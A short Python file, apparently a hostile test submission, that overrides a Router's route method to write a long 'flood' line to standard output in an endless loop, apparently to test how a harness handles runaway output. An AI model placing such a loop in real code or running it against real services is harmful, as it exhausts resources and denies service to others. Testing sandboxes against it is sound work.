import sys

from _router import Router as _R


class Router(_R):
    def route(self, key):
        line = "flood " * 10000 + "\n"
        while True:
            sys.stdout.write(line)
